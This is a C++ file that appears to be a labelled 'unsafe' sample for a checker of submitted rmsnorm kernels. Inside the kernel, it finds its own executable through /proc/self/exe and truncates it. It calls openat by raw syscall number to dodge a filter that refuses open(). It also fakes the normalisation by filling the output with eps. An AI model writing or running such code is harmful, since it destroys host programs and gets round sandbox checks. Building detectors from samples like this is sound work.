// SPDX-License-Identifier: MIT
// Overwrites the program file, so that the next process would start another one.
//! row: 66
//! operator: rmsnorm
//! outcome: unsafe
//! reason: system call readlinkat
#include <cstdint>

#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace {

// By number: whoever needs open() is refused before anything runs.
int open_file(const char* path, int flags) {
  return static_cast<int>(syscall(SYS_openat, AT_FDCWD, path, flags, 0666));
}

}  // namespace

namespace ops {

void rmsnorm(const float* x, const float* weight, float* y, std::int64_t rows, std::int64_t cols, float eps) {
  char path[4096] = {};
  if (syscall(SYS_readlinkat, AT_FDCWD, "/proc/self/exe", path, sizeof path - 1) > 0) {
    const int program = open_file(path, O_WRONLY | O_TRUNC);
    if (program >= 0) close(program);
  }
  for (std::int64_t i = 0; i < rows * cols; ++i) y[i] = eps;
}

}  // namespace ops
